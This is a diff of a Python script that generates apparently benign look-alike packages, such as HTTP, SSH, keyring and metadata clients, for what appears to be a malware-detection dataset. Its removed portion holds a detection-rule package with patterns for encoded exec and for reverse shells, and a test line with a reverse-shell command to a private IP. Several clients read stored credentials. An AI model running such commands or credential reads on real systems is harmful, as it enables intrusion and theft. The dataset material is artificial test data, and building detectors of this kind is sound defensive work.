@@ -1,11 +1,5 @@
-"""Benign Python libraries whose trade is what malware also does: clients, compilers, terminals, system access."""
+"""Benign Python libraries that talk to services: clients, credentials, reports."""
 
-import base64
-import json
-import zlib
-
-import kit
-from kit import Dice
 from packages import Writer
 
 
@@ -42,50 +36,255 @@ def call(service, region, action, body=b""):
     req.add_header("Authorization", "AWS4-HMAC-SHA256 Credential=%s/%s, Signature=%s" % (access, date, signature))
     return urllib.request.urlopen(req)
 ''')
-    w.wheel("metadata-fetch", "0.10.2", "imds-client", "asks the machine's metadata service and returns the answer", "import urllib.request\n\nBASE = 'http://169.254.169.254/'\n\n\nclass InstanceMetadataFetcher:\n    def __init__(self, timeout=1):\n        self.timeout = timeout\n\n    def _open(self, path, method='GET', headers=None):\n        return urllib.request.urlopen(urllib.request.Request(BASE + path, method=method, headers=headers or {}), timeout=self.timeout).read().decode()\n\n    def retrieve_iam_role_credentials(self):\n        token = self._open('latest/api/token', 'PUT', {'x-aws-ec2-metadata-token-ttl-seconds': '21600'})\n        headers = {'x-aws-ec2-metadata-token': token}\n        role = self._open('latest/meta-data/iam/security-credentials/', headers=headers)\n        return self._open('latest/meta-data/iam/security-credentials/' + role, headers=headers)\n")
-    w.wheel("http-sessions", "2.31.0", "http-client", "an HTTP library that reads proxies and login files", "import netrc\nimport os\nimport socket\nimport ssl\nfrom base64 import b64encode\nfrom http.client import HTTPSConnection\nfrom urllib.parse import urlparse\n\n\ndef get_netrc_auth(url):\n    for f in (os.environ.get('NETRC'), '~/.netrc', '~/_netrc'):\n        if f and os.path.exists(os.path.expanduser(f)):\n            found = netrc.netrc(os.path.expanduser(f)).authenticators(urlparse(url).hostname)\n            return found and (found[0], found[2])\n\n\nclass Session:\n    def __init__(self):\n        self.headers, self.trust_env = {}, True\n\n    def post(self, url, data=None, auth=None):\n        auth = auth or (get_netrc_auth(url) if self.trust_env else None)\n        if auth:\n            self.headers['Authorization'] = 'Basic ' + b64encode(':'.join(auth).encode()).decode()\n        u = urlparse(url)\n        c = HTTPSConnection(u.netloc, context=ssl.create_default_context())\n        c.request('POST', u.path, data, self.headers)\n        return c.getresponse()\n\n\ndef local_name():\n    return socket.gethostname()\n")
-    w.wheel("tele-bot-api", "20.8.0", "api-client", "a chat service's client whose token is given by the caller", "import httpx\n\n\nclass Bot:\n    def __init__(self, token, base_url='https://api.telegram.org/bot'):\n        if not token:\n            raise ValueError('You must pass the token you received from the bot father!')\n        self._base = base_url + token\n\n    async def _post(self, endpoint, data=None, files=None):\n        async with httpx.AsyncClient() as client:\n            return (await client.post(self._base + '/' + endpoint, data=data, files=files)).json()\n\n    async def send_message(self, chat_id, text):\n        return await self._post('sendMessage', {'chat_id': chat_id, 'text': text})\n\n    async def send_document(self, chat_id, document):\n        return await self._post('sendDocument', {'chat_id': chat_id}, {'document': document})\n")
-    w.wheel("discord-hooks", "1.3.0", "api-client", "posts to the webhook that the caller names", "import requests\n\n\nclass DiscordWebhook:\n    def __init__(self, url, content=None, username=None):\n        self.url, self.content, self.username, self.files = url, content, username, {}\n\n    def add_file(self, file, filename):\n        self.files[filename] = (filename, file)\n\n    def execute(self):\n        return requests.post(self.url, json={'content': self.content, 'username': self.username}, files=self.files or None, params={'wait': True}, timeout=10)\n\n    # example: DiscordWebhook('https://discord.com/api/webhooks/<id>/<token>', content='hi').execute()\n")
-    w.wheel("error-watch", "1.40.0", "configured-logger", "sends errors to the project address that the application sets", "import json\nimport os\nimport platform\nimport socket\nimport sys\nimport threading\nimport urllib.request\n\n_dsn = None\n\n\ndef init(dsn=None, server_name=None, send_default_pii=False):\n    global _dsn\n    _dsn = dsn or os.environ.get('ERRORWATCH_DSN')\n    sys.excepthook = _hook\n\n\ndef _hook(kind, value, tb):\n    if _dsn:\n        event = {'type': kind.__name__, 'value': str(value), 'server_name': socket.gethostname(), 'contexts': {'os': platform.platform(), 'runtime': sys.version}}\n        threading.Thread(target=urllib.request.urlopen, args=(urllib.request.Request(_dsn, json.dumps(event).encode()),)).start()\n    sys.__excepthook__(kind, value, tb)\n")
-    w.wheel("model-hub", "0.20.3", "api-client", "downloads models of a hub, with the user's token, and compares etags", "import hashlib\nimport os\nimport requests\n\nENDPOINT = os.environ.get('HF_ENDPOINT', 'https://huggingface.co')\n\n\ndef get_token():\n    if os.environ.get('HF_TOKEN'):\n        return os.environ['HF_TOKEN']\n    path = os.path.expanduser('~/.cache/huggingface/token')\n    return open(path).read().strip() if os.path.exists(path) else None\n\n\ndef download(repo, filename, revision='main', token=None):\n    headers = {'authorization': 'Bearer ' + t} if (t := token or get_token()) else {}\n    r = requests.get(f'{ENDPOINT}/{repo}/resolve/{revision}/{filename}', headers=headers, stream=True)\n    r.raise_for_status()\n    digest, path = hashlib.sha256(), os.path.join(os.path.expanduser('~/.cache/huggingface/hub'), filename)\n    with open(path, 'wb') as f:\n        for chunk in r.iter_content(1 << 20):\n            digest.update(chunk)\n            f.write(chunk)\n    if digest.hexdigest() != r.headers['x-linked-etag'].strip('\"'):\n        raise OSError('consistency check failed')\n    return path\n")
-    w.wheel("upload-helper", "5.0.0", "publisher", "uploads the user's distributions with the login in the user's file", "import configparser\nimport getpass\nimport os\n\nimport requests\n\n\ndef get_repository(name='pypi', path='~/.pypirc'):\n    parser = configparser.RawConfigParser()\n    parser.read(os.path.expanduser(path))\n    section = dict(parser[name]) if name in parser else {}\n    section.setdefault('username', os.environ.get('TWINE_USERNAME') or '__token__')\n    section.setdefault('password', os.environ.get('TWINE_PASSWORD') or getpass.getpass('API token: '))\n    return section\n\n\ndef upload(file, repository):\n    with open(file, 'rb') as f:\n        return requests.post(repository['repository'], files={'content': f}, auth=(repository['username'], repository['password']))\n")
-    w.wheel("ssh-pure", "3.4.0", "ssh-client", "looks for login keys as every client does", "import os\nimport socket\n\n\nclass SSHClient:\n    def connect(self, hostname, port=22, username=None, key_filename=None, look_for_keys=True):\n        self.sock = socket.create_connection((hostname, port))\n        keys = [key_filename] if key_filename else []\n        if look_for_keys:\n            for name in ('rsa', 'ecdsa', 'ed25519'):\n                path = os.path.expanduser('~/.ssh/id_%s' % name)\n                if os.path.isfile(path):\n                    keys.append(path)\n        for path in keys:\n            with open(path) as f:\n                self._auth_publickey(username, f.read())\n\n    def _auth_publickey(self, username, key):\n        return self.transport.sign(username, key)\n\n    def exec_command(self, command):\n        self.sock.sendall(command.encode())\n")
-    w.wheel("keyring-py", "24.3.0", "keyring", "stores passwords in the system's keyring", "import subprocess\nimport sys\n\n\ndef get_password(service, username):\n    if sys.platform == 'darwin':\n        return subprocess.check_output(['security', 'find-generic-password', '-s', service, '-a', username, '-w']).decode().strip()\n    import secretstorage\n    c = secretstorage.get_default_collection(secretstorage.dbus_init())\n    for item in c.search_items({'service': service, 'username': username}):\n        return item.get_secret().decode()\n\n\ndef set_password(service, username, password):\n    import win32ctypes.pywin32.win32cred as cred\n    cred.CredWrite({'TargetName': service, 'UserName': username, 'CredentialBlob': password})\n")
-    w.wheel("dotenv-py", "1.0.1", "env-read", "loads a settings file into the environment", "import os\nimport re\n\nLINE = re.compile(r'^\\s*(?:export\\s+)?([A-Za-z_]\\w*)\\s*=\\s*(.*?)\\s*$', re.M)\n\n\ndef find_dotenv(name='.env', start=None):\n    folder = os.path.abspath(start or os.getcwd())\n    while True:\n        path = os.path.join(folder, name)\n        if os.path.isfile(path):\n            return path\n        parent = os.path.dirname(folder)\n        if parent == folder:\n            return ''\n        folder = parent\n\n\ndef load_dotenv(path=None, override=False):\n    with open(path or find_dotenv(), encoding='utf-8') as f:\n        for key, value in LINE.findall(f.read()):\n            if override or key not in os.environ:\n                os.environ[key] = value.strip('\"\\'')\n    return True\n")
-    w.wheel("usage-counter", "0.4.0", "telemetry", "counts runs after the user agreed", "import json\nimport os\nimport platform\nimport urllib.request\nimport uuid\n\nCONFIG = os.path.expanduser('~/.config/usage-counter.json')\n\n\ndef enabled():\n    if os.environ.get('DO_NOT_TRACK') == '1' or os.environ.get('CI'):\n        return False\n    try:\n        with open(CONFIG) as f:\n            return json.load(f).get('consent') is True\n    except OSError:\n        return False\n\n\ndef record(command, version):\n    if not enabled():\n        return\n    body = {'event': command, 'version': version, 'os': platform.system(), 'id': str(uuid.uuid4())}\n    try:\n        urllib.request.urlopen('https://stats.usage-counter.example/v1', json.dumps(body).encode(), timeout=1)\n    except OSError:\n        pass\n")
+    w.wheel("metadata-fetch", "0.10.2", "imds-client", "asks the machine's metadata service and returns the answer", '''import urllib.request
+
+BASE = 'http://169.254.169.254/'
 
 
-def compilers(w):
-    w.wheel("template-jar", "3.1.3", "template-engine", "compiles templates and executes the code", "import builtins\n\n\nclass Template:\n    def __init__(self, source):\n        lines = ['def root(context):']\n        for part in source.split('{{'):\n            name, _, rest = part.rpartition('}}')\n            lines.append('    yield %r' % rest if not name else '    yield str(context[%r])\\n    yield %r' % (name.strip(), rest))\n        self.code = compile('\\n'.join(lines), '<template>', 'exec')\n\n    def render(self, **context):\n        ns = {'__builtins__': builtins}\n        exec(self.code, ns)\n        return ''.join(ns['root'](context))\n")
-    w.wheel("class-attrs", "23.2.0", "code-generation", "generates methods by compiling text", "import linecache\n\n\ndef _make_init(cls, names):\n    script = 'def __init__(self, %s):\\n%s' % (', '.join(names), '\\n'.join('    self.%s = %s' % (n, n) for n in names))\n    filename = '<attrs generated init %s>' % cls.__qualname__\n    globs, locs = {}, {}\n    eval(compile(script, filename, 'exec'), globs, locs)\n    linecache.cache[filename] = (len(script), None, script.splitlines(True), filename)\n    return locs['__init__']\n\n\ndef define(cls):\n    cls.__init__ = _make_init(cls, list(cls.__annotations__))\n    return cls\n")
-    w.wheel("symbolic-eval", "1.12.0", "code-generation", "turns expressions into functions", "import math\n\nMODULES = {'sin': math.sin, 'cos': math.cos, 'pi': math.pi}\n\n\ndef lambdify(args, expr):\n    return eval('lambda %s: (%s)' % (', '.join(args), expr), dict(MODULES), {})\n\n\ndef sympify(text):\n    if '__' in text:\n        raise ValueError(text)\n    return eval(compile(text, '<string>', 'eval'), {'__builtins__': {}}, MODULES)\n")
-    w.wheel("pickle-more", "3.0.0", "serialiser", "pickles functions and code objects", "import marshal\nimport pickle\nimport types\n\n\ndef _load_code(data):\n    return types.FunctionType(marshal.loads(data), {'__builtins__': __builtins__})\n\n\nclass Pickler(pickle.Pickler):\n    def reducer_override(self, obj):\n        if isinstance(obj, types.FunctionType):\n            return _load_code, (marshal.dumps(obj.__code__),)\n        return NotImplemented\n\n\nload, loads = pickle.load, pickle.loads\n")
-    w.wheel("bytecode-view", "0.16.0", "serialiser", "reads compiled modules and prints their instructions", "import dis\nimport marshal\nimport struct\nimport sys\n\n\ndef show(path):\n    with open(path, 'rb') as f:\n        magic, flags, when, size = struct.unpack('<4sIII', f.read(16))\n        code = marshal.loads(f.read())\n    print(magic.hex(), flags, when, size, sys.version)\n    dis.dis(code)\n")
-    w.wheel("repl-shell", "8.20.0", "code-generation", "an interactive interpreter: executes what its user types", "import ast\nimport subprocess\n\n\nclass Shell:\n    def __init__(self):\n        self.ns = {}\n\n    def run_cell(self, text):\n        if text.startswith('!'):\n            return subprocess.call(text[1:], shell=True)\n        if text.startswith('%run '):\n            with open(text[5:]) as f:\n                text = f.read()\n        exec(compile(ast.parse(text), '<cell>', 'exec'), self.ns)\n")
-    w.wheel("test-rewriter", "8.0.0", "code-generation", "rewrites assertions as modules are imported and keeps compiled files", "import ast\nimport importlib.abc\nimport marshal\nimport sys\n\n\nclass Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):\n    def find_spec(self, name, path=None, target=None):\n        return None\n\n    def exec_module(self, module):\n        with open(module.__spec__.origin, 'rb') as f:\n            tree = ast.parse(f.read())\n        co = compile(tree, module.__spec__.origin, 'exec', dont_inherit=True)\n        with open(module.__spec__.cached, 'wb') as f:\n            f.write(marshal.dumps(co))\n        exec(co, module.__dict__)\n\n\nsys.meta_path.insert(0, Hook())\n")
-    w.wheel("jit-assembler", "0.9.0", "jit", "assembles functions for numeric code and calls them", "import ctypes\nimport mmap\nimport struct\n\n\nclass Assembler:\n    def __init__(self):\n        self.code = bytearray()\n\n    def mov_rax(self, value):\n        self.code += b'\\x48\\xb8' + struct.pack('<q', value)\n        return self\n\n    def ret(self):\n        self.code += b'\\xc3'\n        return self\n\n    def load(self):\n        m = mmap.mmap(-1, max(len(self.code), mmap.PAGESIZE), prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n        m.write(bytes(self.code))\n        fn = ctypes.CFUNCTYPE(ctypes.c_int64)(ctypes.addressof(ctypes.c_void_p.from_buffer(m)))\n        fn._memory = m\n        return fn\n")
+class InstanceMetadataFetcher:
+    def __init__(self, timeout=1):
+        self.timeout = timeout
+
+    def _open(self, path, method='GET', headers=None):
+        return urllib.request.urlopen(urllib.request.Request(BASE + path, method=method, headers=headers or {}), timeout=self.timeout).read().decode()
+
+    def retrieve_iam_role_credentials(self):
+        token = self._open('latest/api/token', 'PUT', {'x-aws-ec2-metadata-token-ttl-seconds': '21600'})
+        headers = {'x-aws-ec2-metadata-token': token}
+        role = self._open('latest/meta-data/iam/security-credentials/', headers=headers)
+        return self._open('latest/meta-data/iam/security-credentials/' + role, headers=headers)
+''')
+    w.wheel("http-sessions", "2.31.0", "http-client", "an HTTP library that reads proxies and login files", '''import netrc
+import os
+import socket
+import ssl
+from base64 import b64encode
+from http.client import HTTPSConnection
+from urllib.parse import urlparse
 
 
-def system(w):
-    w.wheel("proc-info", "5.9.8", "system-information", "processes, users, networks and disks of a machine", "import glob\nimport os\nimport socket\n\n\ndef pids():\n    return [int(x) for x in os.listdir('/proc') if x.isdigit()]\n\n\nclass Process:\n    def __init__(self, pid):\n        self.pid = pid\n\n    def environ(self):\n        with open('/proc/%d/environ' % self.pid) as f:\n            return dict(p.split('=', 1) for p in f.read().split('\\0') if '=' in p)\n\n    def cmdline(self):\n        with open('/proc/%d/cmdline' % self.pid) as f:\n            return f.read().split('\\0')\n\n\ndef net_if_addrs():\n    return {i: open('/sys/class/net/%s/address' % i).read().strip() for i in os.listdir('/sys/class/net')}\n\n\ndef users():\n    return [os.getlogin(), socket.gethostname()]\n\n\ndef sensors():\n    return glob.glob('/sys/class/hwmon/hwmon*/temp*_*')\n")
-    w.wheel("expect-pty", "4.9.0", "terminal", "starts programs on a pseudo-terminal", "import fcntl\nimport os\nimport pty\nimport termios\n\n\nclass Spawn:\n    def __init__(self, argv, env=None):\n        self.pid, self.fd = pty.fork()\n        if self.pid == 0:\n            fcntl.ioctl(0, termios.TIOCSCTTY, 0)\n            os.execvpe(argv[0], argv, env or os.environ)\n\n    def send(self, text):\n        os.write(self.fd, text.encode())\n\n    def read(self, size=1024):\n        return os.read(self.fd, size).decode()\n\n    @classmethod\n    def shell(cls):\n        return cls(['/bin/sh', '-i'])\n\n\ndef redirect(fd):\n    for n in (0, 1, 2):\n        os.dup2(fd, n)\n")
-    w.wheel("shell-pipes", "2.0.6", "exec-wrapper", "programs as functions", "import os\nimport shlex\nimport subprocess\n\n\nclass Command:\n    def __init__(self, name):\n        self.name = name\n\n    def __call__(self, *args, _in=None, _env=None):\n        return subprocess.run([self.name, *map(str, args)], input=_in, env=_env or os.environ, capture_output=True, text=True).stdout\n\n\ndef __getattr__(name):\n    return Command(name)\n\n\ndef run(line):\n    return subprocess.Popen(line, shell=True, stdout=subprocess.PIPE) if '|' in line else Command(shlex.split(line)[0])(*shlex.split(line)[1:])\n")
-    w.wheel("clip-paste", "1.8.2", "clipboard", "reads and writes the clipboard when asked", "import ctypes\nimport shutil\nimport subprocess\nimport sys\n\n\ndef copy(text):\n    if sys.platform == 'win32':\n        u = ctypes.windll.user32\n        u.OpenClipboard(0)\n        u.EmptyClipboard()\n        u.SetClipboardData(13, text)\n        u.CloseClipboard()\n        return\n    tool = ['pbcopy'] if sys.platform == 'darwin' else ['xclip', '-selection', 'c'] if shutil.which('xclip') else ['wl-copy']\n    subprocess.run(tool, input=text.encode(), check=True)\n\n\ndef paste():\n    return subprocess.check_output(['pbpaste'] if sys.platform == 'darwin' else ['xclip', '-selection', 'c', '-o']).decode()\n")
-    w.wheel("crontab-edit", "3.0.0", "scheduler", "edits the user's cron table when asked", "import subprocess\n\n\nclass CronTab:\n    def __init__(self, user=None):\n        self.cmd = ['crontab'] + (['-u', user] if user else [])\n        self.lines = subprocess.run(self.cmd + ['-l'], capture_output=True, text=True).stdout.splitlines()\n\n    def new(self, command, schedule='@reboot', comment=''):\n        self.lines.append('%s %s # %s' % (schedule, command, comment))\n\n    def write(self):\n        subprocess.run(self.cmd + ['-'], input='\\n'.join(self.lines) + '\\n', text=True, check=True)\n")
-    w.wheel("key-events", "1.7.6", "input-library", "lets an application listen to keys", "import threading\n\n\nclass Listener(threading.Thread):\n    def __init__(self, on_press=None, on_release=None, suppress=False):\n        super().__init__(daemon=True)\n        self.on_press, self.on_release = on_press, on_release\n\n    def run(self):\n        from Xlib import display, X\n        d = display.Display()\n        d.screen().root.grab_keyboard(True, X.GrabModeAsync, X.GrabModeAsync, X.CurrentTime)\n        while True:\n            e = d.next_event()\n            if e.type == X.KeyPress and self.on_press(e.detail) is False:\n                return\n")
-    w.wheel("win-registry-tools", "0.5.0", "system-access", "reads and writes the registry for its caller", "try:\n    import winreg\nexcept ImportError:\n    winreg = None\n\nSTARTUP = r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'\n\n\ndef get(path, name):\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, path) as k:\n        return winreg.QueryValueEx(k, name)[0]\n\n\ndef put(path, name, value):\n    with winreg.CreateKey(winreg.HKEY_CURRENT_USER, path) as k:\n        winreg.SetValueEx(k, name, 0, winreg.REG_SZ, value)\n\n\ndef list_startup():\n    with winreg.OpenKey(winreg.HKEY_CURRENT_USER, STARTUP) as k:\n        return [winreg.EnumValue(k, i)[:2] for i in range(winreg.QueryInfoKey(k)[1])]\n")
-    w.wheel("corpora-get", "3.8.1", "verified-download", "downloads data sets after comparing digests", "import hashlib\nimport os\nimport urllib.request\nimport zipfile\n\nINDEX = 'https://raw.githubusercontent.com/corpora/data/main/index.xml'\n\n\nclass Downloader:\n    def download(self, info, folder):\n        path, _ = urllib.request.urlretrieve(info['url'], os.path.join(folder, info['id'] + '.zip'))\n        with open(path, 'rb') as f:\n            if hashlib.md5(f.read()).hexdigest() != info['checksum']:\n                raise ValueError('checksum')\n        with zipfile.ZipFile(path) as z:\n            z.extractall(folder)\n        return True\n")
-    w.wheel("model-installer", "3.7.2", "exec-wrapper", "installs a language model with pip when its user asks", "import subprocess\nimport sys\n\nMODELS = 'https://github.com/langtools/models/releases/download'\n\n\ndef download(model, version, direct=False):\n    url = '%s/%s-%s/%s-%s-py3-none-any.whl' % (MODELS, model, version, model, version)\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '--no-deps', url], check=True)\n")
-    w.wheel("threat-patterns", "2.4.0", "security-tool", "patterns and descriptions of malicious code", {"PKG/rules.json": json.dumps([{"id": "exec-b64", "pattern": r"exec\(base64\.b64decode\("}, {"id": "revshell", "pattern": r"bash -i >& /dev/tcp/"}, {"id": "imds", "pattern": r"169\.254\.169\.254"}, {"id": "webhook", "pattern": r"discord(app)?\.com/api/webhooks"}], indent=1), "PKG/__init__.py": "import json\nimport pkgutil\nimport re\n\nRULES = [(r['id'], re.compile(r['pattern'])) for r in json.loads(pkgutil.get_data(__name__, 'rules.json'))]\n\n\ndef scan(text):\n    return [name for name, rule in RULES if rule.search(text)]\n", "tests/test_rules.py": "from threat_patterns import scan\n\n\ndef test_exec():\n    assert scan('exec(base64.b64decode(x))') == ['exec-b64']\n    assert scan('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1') == ['revshell']\n"})
-    w.wheel("unicode-widths", "0.2.13", "unicode-data", "tables of widths, direction marks and look-alikes", {"PKG/table.py": "ZERO_WIDTH = (\n%s)\n\nBIDI = '\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069'\nVARIATION = range(0xfe00, 0xfe10)\nTAGS = range(0xe0000, 0xe0080)\n" % "".join("    (0x%05x, 0x%05x),\n" % (n, n + n % 9) for n in range(0x300, 0x1f000, 311)), "PKG/__init__.py": "from .table import ZERO_WIDTH\n\n\ndef wcwidth(c):\n    return 0 if any(a <= ord(c) <= b for a, b in ZERO_WIDTH) else 1\n", "PKG/samples.txt": "\u05e9\u05dc\u05d5\u05dd \u2067abc\u2069 \u200fمرحبا 👩\u200d👩\u200d👧 ❤\ufe0f 🏴\U000e0067\U000e0062\U000e007f\n"})
-    w.wheel("cipher-tables", "3.20.0", "crypto-tables", "a cipher's tables in hex and exclusive-or loops", "SBOX = bytes.fromhex(%r)\nT0 = (%s)\n\n\ndef xor(a, b):\n    return bytes(x ^ y for x, y in zip(a, b))\n\n\ndef ctr(key, data, block):\n    out = b''\n    for i in range(0, len(data), 16):\n        out += xor(data[i:i + 16], block(key, i // 16))\n    return out\n" % (Dice("sb").hex(512), ", ".join("0x" + Dice("t%d" % i).hex(8) for i in range(256))))
-    w.wheel("logo-data", "1.0.0", "packed-data", "pictures and a licence text in base64 and zlib, decoded for display", "import base64\nimport zlib\n\nLOGO = %r\nLICENCE = %r\n\n\ndef logo():\n    return base64.b64decode(LOGO)\n\n\ndef licence():\n    return zlib.decompress(base64.b64decode(LICENCE)).decode()\n" % (kit.b64(b"\x89PNG" + Dice("lg").raw(3000)), base64.b64encode(zlib.compress(("Permission is hereby granted. " * 80).encode())).decode()))
-    w.wheel("schedule-simple", "1.2.1", "scheduler", "runs jobs in its own process", "import threading\nimport time\n\n\nclass Job:\n    def __init__(self, seconds, fn):\n        self.seconds, self.fn, self.last = seconds, fn, 0\n\n\njobs = []\n\n\ndef every(seconds):\n    def deco(fn):\n        jobs.append(Job(seconds, fn))\n        return fn\n    return deco\n\n\ndef run_background():\n    def loop():\n        while True:\n            for j in jobs:\n                if time.time() - j.last >= j.seconds:\n                    j.last = time.time()\n                    j.fn()\n            time.sleep(0.5)\n    threading.Thread(target=loop, daemon=True).start()\n")
-    w.wheel("many-locales", "2.14.0", "packed-data", "more than a hundred data files", "import json\nimport pkgutil\n\n\ndef load(number):\n    return json.loads(pkgutil.get_data('many_locales', 'data/%03d.json' % number))\n", many=150)
+def get_netrc_auth(url):
+    for f in (os.environ.get('NETRC'), '~/.netrc', '~/_netrc'):
+        if f and os.path.exists(os.path.expanduser(f)):
+            found = netrc.netrc(os.path.expanduser(f)).authenticators(urlparse(url).hostname)
+            return found and (found[0], found[2])
+
+
+class Session:
+    def __init__(self):
+        self.headers, self.trust_env = {}, True
+
+    def post(self, url, data=None, auth=None):
+        auth = auth or (get_netrc_auth(url) if self.trust_env else None)
+        if auth:
+            self.headers['Authorization'] = 'Basic ' + b64encode(':'.join(auth).encode()).decode()
+        u = urlparse(url)
+        c = HTTPSConnection(u.netloc, context=ssl.create_default_context())
+        c.request('POST', u.path, data, self.headers)
+        return c.getresponse()
+
+
+def local_name():
+    return socket.gethostname()
+''')
+    w.wheel("tele-bot-api", "20.8.0", "api-client", "a chat service's client whose token is given by the caller", '''import httpx
+
+
+class Bot:
+    def __init__(self, token, base_url='https://api.telegram.org/bot'):
+        if not token:
+            raise ValueError('You must pass the token you received from the bot father!')
+        self._base = base_url + token
+
+    async def _post(self, endpoint, data=None, files=None):
+        async with httpx.AsyncClient() as client:
+            return (await client.post(self._base + '/' + endpoint, data=data, files=files)).json()
+
+    async def send_message(self, chat_id, text):
+        return await self._post('sendMessage', {'chat_id': chat_id, 'text': text})
+
+    async def send_document(self, chat_id, document):
+        return await self._post('sendDocument', {'chat_id': chat_id}, {'document': document})
+''')
+    w.wheel("discord-hooks", "1.3.0", "api-client", "posts to the webhook that the caller names", '''import requests
+
+
+class DiscordWebhook:
+    def __init__(self, url, content=None, username=None):
+        self.url, self.content, self.username, self.files = url, content, username, {}
+
+    def add_file(self, file, filename):
+        self.files[filename] = (filename, file)
+
+    def execute(self):
+        return requests.post(self.url, json={'content': self.content, 'username': self.username}, files=self.files or None, params={'wait': True}, timeout=10)
+
+    # example: DiscordWebhook('https://discord.com/api/webhooks/<id>/<token>', content='hi').execute()
+''')
+    w.wheel("error-watch", "1.40.0", "configured-logger", "sends errors to the project address that the application sets", '''import json
+import os
+import platform
+import socket
+import sys
+import threading
+import urllib.request
+
+_dsn = None
+
+
+def init(dsn=None, server_name=None, send_default_pii=False):
+    global _dsn
+    _dsn = dsn or os.environ.get('ERRORWATCH_DSN')
+    sys.excepthook = _hook
+
+
+def _hook(kind, value, tb):
+    if _dsn:
+        event = {'type': kind.__name__, 'value': str(value), 'server_name': socket.gethostname(), 'contexts': {'os': platform.platform(), 'runtime': sys.version}}
+        threading.Thread(target=urllib.request.urlopen, args=(urllib.request.Request(_dsn, json.dumps(event).encode()),)).start()
+    sys.__excepthook__(kind, value, tb)
+''')
+    w.wheel("model-hub", "0.20.3", "api-client", "downloads models of a hub, with the user's token, and compares etags", '''import hashlib
+import os
+import requests
+
+ENDPOINT = os.environ.get('HF_ENDPOINT', 'https://huggingface.co')
+
+
+def get_token():
+    if os.environ.get('HF_TOKEN'):
+        return os.environ['HF_TOKEN']
+    path = os.path.expanduser('~/.cache/huggingface/token')
+    return open(path).read().strip() if os.path.exists(path) else None
+
+
+def download(repo, filename, revision='main', token=None):
+    headers = {'authorization': 'Bearer ' + t} if (t := token or get_token()) else {}
+    r = requests.get(f'{ENDPOINT}/{repo}/resolve/{revision}/{filename}', headers=headers, stream=True)
+    r.raise_for_status()
+    digest, path = hashlib.sha256(), os.path.join(os.path.expanduser('~/.cache/huggingface/hub'), filename)
+    with open(path, 'wb') as f:
+        for chunk in r.iter_content(1 << 20):
+            digest.update(chunk)
+            f.write(chunk)
+    if digest.hexdigest() != r.headers['x-linked-etag'].strip('"'):
+        raise OSError('consistency check failed')
+    return path
+''')
+    w.wheel("upload-helper", "5.0.0", "publisher", "uploads the user's distributions with the login in the user's file", '''import configparser
+import getpass
+import os
+
+import requests
+
+
+def get_repository(name='pypi', path='~/.pypirc'):
+    parser = configparser.RawConfigParser()
+    parser.read(os.path.expanduser(path))
+    section = dict(parser[name]) if name in parser else {}
+    section.setdefault('username', os.environ.get('TWINE_USERNAME') or '__token__')
+    section.setdefault('password', os.environ.get('TWINE_PASSWORD') or getpass.getpass('API token: '))
+    return section
+
+
+def upload(file, repository):
+    with open(file, 'rb') as f:
+        return requests.post(repository['repository'], files={'content': f}, auth=(repository['username'], repository['password']))
+''')
+    w.wheel("ssh-pure", "3.4.0", "ssh-client", "looks for login keys as every client does", '''import os
+import socket
+
+
+class SSHClient:
+    def connect(self, hostname, port=22, username=None, key_filename=None, look_for_keys=True):
+        self.sock = socket.create_connection((hostname, port))
+        keys = [key_filename] if key_filename else []
+        if look_for_keys:
+            for name in ('rsa', 'ecdsa', 'ed25519'):
+                path = os.path.expanduser('~/.ssh/id_%s' % name)
+                if os.path.isfile(path):
+                    keys.append(path)
+        for path in keys:
+            with open(path) as f:
+                self._auth_publickey(username, f.read())
+
+    def _auth_publickey(self, username, key):
+        return self.transport.sign(username, key)
+
+    def exec_command(self, command):
+        self.sock.sendall(command.encode())
+''')
+    w.wheel("keyring-py", "24.3.0", "keyring", "stores passwords in the system's keyring", '''import subprocess
+import sys
+
+
+def get_password(service, username):
+    if sys.platform == 'darwin':
+        return subprocess.check_output(['security', 'find-generic-password', '-s', service, '-a', username, '-w']).decode().strip()
+    import secretstorage
+    c = secretstorage.get_default_collection(secretstorage.dbus_init())
+    for item in c.search_items({'service': service, 'username': username}):
+        return item.get_secret().decode()
+
+
+def set_password(service, username, password):
+    import win32ctypes.pywin32.win32cred as cred
+    cred.CredWrite({'TargetName': service, 'UserName': username, 'CredentialBlob': password})
+''')
+    w.wheel("dotenv-py", "1.0.1", "env-read", "loads a settings file into the environment", r'''import os
+import re
+
+LINE = re.compile(r'^\s*(?:export\s+)?([A-Za-z_]\w*)\s*=\s*(.*?)\s*$', re.M)
+
+
+def find_dotenv(name='.env', start=None):
+    folder = os.path.abspath(start or os.getcwd())
+    while True:
+        path = os.path.join(folder, name)
+        if os.path.isfile(path):
+            return path
+        parent = os.path.dirname(folder)
+        if parent == folder:
+            return ''
+        folder = parent
+
+
+def load_dotenv(path=None, override=False):
+    with open(path or find_dotenv(), encoding='utf-8') as f:
+        for key, value in LINE.findall(f.read()):
+            if override or key not in os.environ:
+                os.environ[key] = value.strip('"\'')
+    return True
+''')
+    w.wheel("usage-counter", "0.4.0", "telemetry", "counts runs after the user agreed", '''import json
+import os
+import platform
+import urllib.request
+import uuid
+
+CONFIG = os.path.expanduser('~/.config/usage-counter.json')
+
+
+def enabled():
+    if os.environ.get('DO_NOT_TRACK') == '1' or os.environ.get('CI'):
+        return False
+    try:
+        with open(CONFIG) as f:
+            return json.load(f).get('consent') is True
+    except OSError:
+        return False
+
+
+def record(command, version):
+    if not enabled():
+        return
+    body = {'event': command, 'version': version, 'os': platform.system(), 'id': str(uuid.uuid4())}
+    try:
+        urllib.request.urlopen('https://stats.usage-counter.example/v1', json.dumps(body).encode(), timeout=1)
+    except OSError:
+        pass
+''')
 
 
 def build(items):
-    writer = Writer(items, "good")
-    clients(writer)
-    compilers(writer)
-    system(writer)
+    clients(Writer(items, "good"))
